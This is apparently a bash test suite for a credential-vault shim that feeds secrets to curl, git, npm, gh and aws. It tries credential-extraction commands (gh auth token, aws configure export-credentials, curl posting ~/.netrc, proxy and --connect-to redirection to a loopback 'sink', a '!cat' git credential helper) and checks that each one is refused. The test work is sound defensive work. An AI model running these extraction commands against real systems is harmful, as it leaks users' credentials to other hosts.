#!/usr/bin/env bash
# The oracle battery: the SHIPPED config/vaultshim.conf, loaded by vaultd with
# only paths and hosts substituted (printed below as a diff and checked to be
# nothing else), against the real tools (curl, git, npm, gh, aws) under the
# shim. Each known oracle (gh auth token, gh auth status -t, gh auth
# git-credential, npm config get, npm token, aws configure get, aws configure
# export-credentials, git credential fill, curl file://, curl -d @file,
# --connect-to, -x, -K, a planted ~/.curlrc or gh config.yml) reveals no
# value; where the tool is refused its grant, it prints exactly one
# "vaultshim: ..." line and vaultd writes a reject audit line. Normal use of
# each tool still authenticates against a loopback stand-in.
. "$(dirname "$0")/../lib.sh"
vs_clean_env "$@"
vs_begin
vs_trusted_dir
chmod 711 "$VS_TMP"
V=$VAULTCTL
T=$VS_TRUSTED
ROOT=$(cd "$(dirname "$0")/../.." && pwd)
TOOLS="$ROOT/tests/helpers/tools"
SHIM="$VS_BUILD/libvaultshim.so"
NPM_CLI=$(readlink -f /usr/bin/npm)
missing=""
for f in /usr/bin/curl /usr/bin/git /usr/lib/git-core/git-remote-http /usr/lib/git-core/git-http-backend \
         /usr/sbin/nginx /usr/sbin/fcgiwrap /usr/bin/python3 /usr/bin/node "$NPM_CLI" /usr/bin/aws /usr/bin/gh \
         /usr/bin/openssl "$SHIM"; do
    [ -e "$f" ] || missing="$missing $f"
done
[ -z "$missing" ] || { not_ok "missing:$missing (scripts/install-deps)"; vs_end; exit 1; }

api=$(fake_token api); ghv=$(fake_token ghp); npmv=$(fake_token npm); oai=$(fake_token sk)
awsid="AKIA$(fake_token x | tail -c 16 | tr a-z A-Z)"; awssec=$(fake_token awssec)
VALUES="$api $ghv $npmv $oai $awsid $awssec"
"$V" init --keyfile >/dev/null
for pair in "api_token:$api" "github_token:$ghv" "npm_token:$npmv" "aws_key_id:$awsid" "aws_secret:$awssec" \
            "OPENAI_API_KEY:$oai"; do
    printf '%s' "${pair#*:}" | "$V" save "${pair%%:*}" >/dev/null
done

# --- servers on loopback (ports chosen by them)
SRV="$VS_TMP/srv"; mkdir -p "$SRV"
start_server() { vs_start_server "$SRV" "$@"; } # NAME CMD...: sets SRV_PORT
openssl req -x509 -newkey rsa:2048 -nodes -days 1 -subj /CN=localhost -addext subjectAltName=DNS:localhost \
    -keyout "$T/tls.key" -out "$T/ca.pem" >/dev/null 2>&1
chmod 644 "$T/ca.pem"
printf '%s\n' "$api" >"$SRV/api"; printf '%s\n' "$npmv" >"$SRV/npm"; printf '%s\n' "$ghv" >"$SRV/gh"
printf '%s\n' $VALUES >"$SRV/values"
check "the https API stand-in starts (TLS, test CA)" start_server https python3 "$TOOLS/oracle_server.py" https "$SRV/api" "$SRV/log" 600 "$T/ca.pem" "$T/tls.key"
CP=$SRV_PORT
check "the npm registry stand-in starts" start_server npm python3 "$TOOLS/oracle_server.py" npm "$SRV/npm" "$SRV/log" 600
NP=$SRV_PORT
check "the GitHub API stand-in starts" start_server gh python3 "$TOOLS/oracle_server.py" gh "$SRV/gh" "$SRV/log" 600
GHP=$SRV_PORT
check "a sink (a proxy or host that must never be reached) starts" start_server sink python3 "$TOOLS/oracle_server.py" sink "$SRV/values" "$SRV/sink.log" 600
SINK=$SRV_PORT
printf '%s\n%s\n' "$awsid" "$awssec" >"$SRV/sts.expected"
check "the STS stand-in starts" start_server sts python3 "$TOOLS/tool_server.py" sts "$SRV/sts.expected" "$SRV/sts.log" 600
SP=$SRV_PORT
G="$SRV/git"
start_git() {
    mkdir -p "$G" && printf 'x-access-token:%s\n' "$(printf '%s' "$ghv" | openssl passwd -apr1 -stdin)" >"$G/htpasswd" || return 1
    GP=$(vs_free_port)
    bash "$TOOLS/git_http.sh" setup "$G" "$GP" || return 1
    vs_start_git_http "$G" "$GP"
}
check "nginx + git-http-backend behind Basic auth" start_git

# --- the agent's home; the shipped policy with paths and hosts substituted
AH="$T/home"
mkdir -p "$AH/.aws" "$AH/.config/gh" "$AH/proj"
printf '[default]\nregion = us-east-1\noutput = json\nendpoint_url = http://127.0.0.1:%s\n' "$SP" >"$AH/.aws/config"
# A project .npmrc the granted npm does not see (hide_files): the registry
# comes from the served ~/.npmrc.
printf 'registry=http://127.0.0.1:%s/\n' "$SINK" >"$AH/proj/.npmrc"
# Planted by "someone" before the run: must not be read by the granted tools.
printf 'proxy = "http://127.0.0.1:%s"\n' "$SINK" >"$AH/.curlrc"
SHIPPED="$ROOT/config/vaultshim.conf"
sed -e "s|\"~/|\"$AH/|g" \
    -e "s|https://api.example.com/|https://localhost:$CP/|g" -e "s|machine api.example.com|machine localhost|" \
    -e "s|https://github.com/|http://127.0.0.1:$GP/git/|g" -e "s|machine github.com|machine 127.0.0.1|" \
    -e "s|registry=https://registry.npmjs.org/|registry=http://127.0.0.1:$NP/|" \
    -e "s|//registry.npmjs.org/|//127.0.0.1:$NP/|" \
    -e "s|/usr/lib/node_modules/npm/bin/npm-cli.js|$NPM_CLI|" \
    -e "s|^    env = { GH_TOKEN = \"github_token\"; };|& allow_proxy = true;|" \
    -e "s|\"sts get-caller-identity\"|\"sts get-caller-identity --endpoint-url http://127.0.0.1:$SP\"|" \
    "$SHIPPED" >"$T/policy.conf"
chmod 644 "$T/policy.conf"
diff "$SHIPPED" "$T/policy.conf" | grep '^>' | sed 's/^/# substituted: /'
# Every changed line holds one of the substitutions, and the argument rules
# (allow_args, deny_args) differ only by the URL prefixes.
only_substituted() {
    diff <(grep -c . "$SHIPPED") <(grep -c . "$T/policy.conf") >/dev/null || return 1
    ! diff "$SHIPPED" "$T/policy.conf" | grep '^>' |
        grep -vE "$AH/|--endpoint-url http://127.0.0.1:$SP|localhost:$CP/|machine localhost|127\.0\.0\.1:$GP/git/|machine 127\.0\.0\.1|//127\.0\.0\.1:$NP/|$NPM_CLI|allow_proxy = true;"
}
check "the test policy is the shipped one with only paths, hosts and gh's proxy substituted" only_substituted
check "vaultd loads it" vs_start_vaultd "$T/policy.conf"
check "... every shipped tool but openai (not installed) is available" bash -c '! grep -i "unavailable\|warning" "$0" | grep -v openai | grep -q .' "$VS_TMP/vaultd.log"

agent() {
    env -i PATH=/usr/bin:/bin HOME="$AH" LANG=C.UTF-8 VAULT_SOCKET="$VAULT_SOCKET" LD_PRELOAD="$SHIM" \
        CURL_CA_BUNDLE="$T/ca.pem" GH_HOST=github.localhost GH_REPO=vault/proj \
        GH_NO_UPDATE_NOTIFIER=1 GH_PROMPT_DISABLED=1 AWS_EC2_METADATA_DISABLED=true AWS_PAGER= \
        PYTHONNOUSERSITE=1 GIT_TERMINAL_PROMPT=0 "$@"
}
CASES="$VS_TMP/cases"; mkdir -p "$CASES"; _case=0
no_value_in() { local v; for v in $VALUES; do absent_in "$v" "$@" || return 1; done; }
rejects() { grep -c '"decision":"denied"' "$VAULT_HOME/audit.log"; }
# oracle DESC TOOL CMD...: in the agent's tree CMD prints no value; its
# stderr has exactly one vaultshim line, "vaultshim: TOOL: no grant: ...
# refused (...)", and the audit log one more denied line naming TOOL.
oracle() {
    local desc=$1 tool=$2 o before lines; shift 2
    _case=$((_case + 1)); o="$CASES/o$_case"
    before=$(rejects)
    (cd "$AH/proj" && agent "$@") >"$o.out" 2>"$o.err" </dev/null
    if ! no_value_in "$o.out" "$o.err"; then not_ok "$desc (a value was printed)"; return; fi
    lines=$(grep -c '^vaultshim:' "$o.err")
    if [ "$lines" != 1 ] || ! grep -qE "^vaultshim: $tool: no grant: .*refused" "$o.err"; then
        not_ok "$desc ($lines vaultshim lines: $(grep '^vaultshim' "$o.err" | head -3 | tr '\n' '|'))"; return
    fi
    if [ "$(rejects)" -le "$before" ] || ! grep '"decision":"denied"' "$VAULT_HOME/audit.log" | tail -1 | grep -q "\"tool\":\"$tool\""; then
        not_ok "$desc (no reject audit line for $tool: $(last_audit | head -c 300))"; return
    fi
    ok "$desc: $(grep '^vaultshim:' "$o.err")"
}
# normal DESC WANT CMD...: CMD exits 0, prints WANT, no vaultshim line, no value.
normal() {
    local desc=$1 want=$2 o rc; shift 2
    _case=$((_case + 1)); o="$CASES/n$_case"
    (cd "$AH/proj" && agent "$@") >"$o.out" 2>"$o.err" </dev/null; rc=$?
    if ! no_value_in "$o.out" "$o.err"; then not_ok "$desc (a value was printed)"; return; fi
    if [ "$rc" -ne 0 ] || ! cat "$o.out" "$o.err" | grep -qE -- "$want" || grep -q '^vaultshim:' "$o.err"; then
        not_ok "$desc (exit $rc: $(cat "$o.out" "$o.err" | head -c 400 | tr '\n' '|'))"; return
    fi
    ok "$desc"
}
matches() { [ "$(grep -c "^$1 match" "$SRV/log")" -ge "$2" ]; }

# --- normal use works
normal "curl --netrc -fsS https://API/ authenticates (the served ~/.curlrc ignores the planted proxy)" '^welcome$' \
    curl --netrc -fsS "https://localhost:$CP/v1/models"
normal "git ls-remote origin over http (git-remote-http gets the netrc)" 'refs/heads/main' \
    bash -c 'git init -q . 2>/dev/null; git remote add origin "$0" 2>/dev/null; git ls-remote origin' "http://127.0.0.1:$GP/git/repo.git"
normal "git clone URL" '^cloned$' bash -c 'rm -rf c && git clone -q "$0" c && echo cloned' "http://127.0.0.1:$GP/git/repo.git"
normal "npm whoami against the registry stand-in" '^vault-agent$' /usr/bin/node "$NPM_CLI" whoami
GHX=(env HTTP_PROXY="http://127.0.0.1:$GHP")
normal "gh pr list against the GitHub stand-in" '^exit 0$' "${GHX[@]}" bash -c 'gh pr list; echo "exit $?"' 
check "... the GitHub stand-in saw the vaulted token" matches gh 1
normal "aws sts get-caller-identity (SigV4 with the served key)" '"Account": "123456789012"' \
    aws sts get-caller-identity --endpoint-url "http://127.0.0.1:$SP"
check "... the STS stand-in saw the key id and a valid signature" grep -q '^sts match' "$SRV/sts.log"
check "the planted proxy (sink) was never reached" bash -c '! grep -q hit "$0" 2>/dev/null' "$SRV/sink.log"

# --- the oracles
gh_matches=$(grep -c '^gh match' "$SRV/log")
oracle "gh auth token" gh "${GHX[@]}" gh auth token
oracle "gh auth status -t" gh "${GHX[@]}" gh auth status -t
oracle "gh auth git-credential get" gh "${GHX[@]}" bash -c 'printf "protocol=https\nhost=github.com\n\n" | gh auth git-credential get'
oracle "gh api user (no api)" gh "${GHX[@]}" gh api user
check "... none of them reached the GitHub stand-in with the token" bash -c '[ "$(grep -c "^gh match" "$0")" = "$1" ]' \
    "$SRV/log" "$gh_matches"
oracle "npm config get //REGISTRY/:_authToken" npm /usr/bin/node "$NPM_CLI" config get "//127.0.0.1:$NP/:_authToken"
oracle "npm config list" npm /usr/bin/node "$NPM_CLI" config list
oracle "npm token list" npm /usr/bin/node "$NPM_CLI" token list
oracle "npm run (project code with the token)" npm /usr/bin/node "$NPM_CLI" run env
oracle "aws configure get aws_secret_access_key" aws aws configure get aws_secret_access_key
oracle "aws configure export-credentials" aws aws configure export-credentials
oracle "aws configure list" aws aws configure list
oracle "aws sts get-caller-identity --debug" aws aws sts get-caller-identity --debug
oracle "curl file://~/.netrc" curl curl --netrc -s "file://$AH/.netrc"
oracle "curl -d @~/.netrc to the API" curl curl --netrc -fsS -d "@$AH/.netrc" "https://localhost:$CP/"
oracle "curl --connect-to to another host" curl curl --netrc -fsS --connect-to "localhost:$CP:127.0.0.1:$SINK" "https://localhost:$CP/"
oracle "curl -x through a proxy" curl curl --netrc -fsS -x "http://127.0.0.1:$SINK" "https://localhost:$CP/"
printf 'url = "https://localhost:%s/"\nnetrc\n' "$CP" >"$AH/proj/curl.cfg"
oracle "curl -K config file" curl curl -K "$AH/proj/curl.cfg"
oracle "curl --netrc to another host" curl curl --netrc -fsS "http://127.0.0.1:$SINK/"
oracle "git-remote-http to another URL (git ls-remote URL)" git-remote-http git ls-remote "http://127.0.0.1:$SINK/x.git"
oracle "a second git credential helper through GIT_CONFIG_COUNT" git-remote-http \
    env GIT_CONFIG_COUNT=1 GIT_CONFIG_KEY_0=credential.helper GIT_CONFIG_VALUE_0='!cat' git ls-remote origin
# A project .npmrc aiming the token at another registry: npm (whoami is
# allowed) sends the sink nothing, since the served ~/.npmrc binds the token
# to its own registry and NPM_TOKEN is in no environment.
mkdir -p "$AH/proj2"
printf 'registry=http://127.0.0.1:%s/\n//127.0.0.1:%s/:_authToken=${NPM_TOKEN}\nalways-auth=true\n' "$SINK" "$SINK" \
    >"$AH/proj2/.npmrc"
_case=$((_case + 1)); o="$CASES/o$_case"
(cd "$AH/proj2" && agent /usr/bin/node "$NPM_CLI" whoami) >"$o.out" 2>"$o.err" </dev/null
check "a project .npmrc aiming \${NPM_TOKEN} at another host: npm fails, prints no value" \
    bash -c '. "$0"; for v in $1; do absent_in "$v" "$2" "$3" || exit 1; done' "$ROOT/tests/lib.sh" "$VALUES" "$o.out" "$o.err"
check "the sink got no vaulted value from any run" bash -c '! grep -q "with a vaulted value" "$0" 2>/dev/null' "$SRV/sink.log"
diag "sink: $(sort "$SRV/sink.log" 2>/dev/null | uniq -c | tr -s ' ' | tr '\n' ';')"
# git itself holds nothing: git credential fill, with or without a helper
# asked on the command line, has nothing to give (no vaultshim line: git is
# no tool, only its HTTP transport is).
_case=$((_case + 1)); o="$CASES/o$_case"
(cd "$AH/proj" && agent bash -c 'printf "protocol=http\nhost=127.0.0.1:%s\n\n" "$0" | git credential fill;
    printf "protocol=http\nhost=127.0.0.1:%s\n\n" "$0" | git -c credential.helper=store credential fill' "$GP") \
    >"$o.out" 2>"$o.err" </dev/null
check "git credential fill (also with credential.helper=store): no value, git has nothing to give" \
    bash -c '. "$0"; for v in $1; do absent_in "$v" "$2" "$3" || exit 1; done; grep -q "terminal prompts disabled" "$3"' \
    "$ROOT/tests/lib.sh" "$VALUES" "$o.out" "$o.err"
oracle "git -c http.proxy=... ls-remote origin (config from the environment)" git-remote-http \
    git -c "http.proxy=http://127.0.0.1:$SINK" ls-remote origin
check "no value in the audit log or vaultd's log" bash -c '. "$0"; for v in $1; do absent_in "$v" "$2" "$3" || exit 1; done' \
    "$ROOT/tests/lib.sh" "$VALUES" "$VAULT_HOME/audit.log" "$VS_TMP/vaultd.log"
vs_end
